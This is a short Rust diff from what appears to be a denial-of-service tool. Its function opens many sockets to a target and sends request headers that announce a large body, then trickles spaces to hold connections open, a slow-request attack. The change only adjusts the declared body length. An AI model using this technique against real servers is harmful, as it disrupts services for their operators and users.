@@ -13,7 +13,7 @@ pub fn unfinished(target: Target) -> Attacking {
     Box::pin(target.crowd(sockets, move |mut member, _| async move {
         let (mut reader, mut writer) = member.target.open().await?;
         let send = async {
-            writer.raw(&head(BINARY, 5_000_000)).await?;
+            writer.raw(&head(BINARY, length + 90_000)).await?;
             writer.raw(&vec![b' '; length]).await?;
             loop {
                 writer.raw(b" ").await?;
